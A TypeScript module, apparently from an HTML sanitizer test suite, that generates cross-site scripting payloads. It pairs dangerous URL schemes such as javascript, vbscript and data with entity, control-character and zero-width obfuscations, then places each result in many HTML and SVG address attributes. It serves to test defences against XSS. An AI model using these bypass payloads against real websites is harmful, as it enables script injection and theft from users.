import { type Kind, RUN } from '../kind.ts'

const SCHEMES = [
  'javascript',
  'vbscript',
  'livescript',
  'data',
  'blob',
  'file',
  'filesystem',
  'chrome',
  'moz-extension',
  'resource',
  'about',
  'view-source',
  'ws',
  'intent',
]

/** Characters that a browser ignores within an address or before it, or that look like a part of a scheme. */
const IGNORED = [
  ...Array.from({ length: 33 }, (_, code) => String.fromCharCode(code)),
  '\u007F',
  '\u0085',
  '\u00A0',
  '\u00AD',
  '\u2028',
  '\u200B',
  '\u3000',
  '\uFEFF',
]

const ENTITIES = ['&Tab;', '&NewLine;', '&#9;', '&#x0a;', '&#0000013', '&ZeroWidthSpace;']

/** What follows the scheme. */
const codeFor = (scheme: string) =>
  scheme === 'data' ? `text/html,&lt;script>${RUN}&lt;/script>` : `${RUN}//https://a.example/`

function disguised(scheme: string): readonly string[] {
  const code = codeFor(scheme)
  const [head, tail] = [scheme.slice(0, 2), scheme.slice(2)]
  return [
    `${scheme}:${code}`,
    `${scheme.toUpperCase()}:${code}`,
    `${scheme}&colon;${code}`,
    `${scheme}&#58${code}`,
    `&#x${scheme.charCodeAt(0).toString(16)};${scheme.slice(1)}:${code}`,
    `https:${scheme}:${code}`,
    `feed:${scheme}:${code}`,
    ...[...IGNORED, ...ENTITIES].flatMap(each => [
      `${each}${scheme}:${code}`,
      `${head}${each}${tail}:${code}`,
      `${scheme}${each}:${code}`,
    ]),
  ]
}

/** Every attribute that holds an address. */
const SINKS = [
  (address: string) => `<a href="${address}">a</a><map><area href="${address}" shape="default"></map>`,
  (address: string) => `<img src="${address}" srcset="${address} 2x" longdesc="${address}">`,
  (address: string) => `<math href="${address}" xlink:href="${address}"><mi href="${address}">x</mi></math>`,
  (address: string) => `<svg><a href="${address}" xlink:href="${address}"><text>x</text></a></svg>`,
  (address: string) =>
    `<svg><a><animate attributeName="href" values="${address}"/><text>x</text></a><use href="${address}"/></svg>`,
  (address: string) =>
    `<iframe src="${address}"></iframe><embed src="${address}"><object data="${address}"></object>`,
  (address: string) => `<form action="${address}"><button formaction="${address}">b</button></form>`,
  (address: string) => `<a href="https://a.example/" ping="${address}" target="${address}">a</a>`,
]

/** Each scheme, in each disguise, in each attribute; schemes that run nothing in one attribute each. */
export const addresses: Kind = {
  name: 'addresses',
  payloads: () =>
    SCHEMES.flatMap(scheme =>
      disguised(scheme).flatMap((address, i) =>
        scheme === 'javascript'
          ? SINKS.map(sink => sink(address))
          : [SINKS[i % SINKS.length]!(address), SINKS[0]!(address)],
      ),
    ),
}
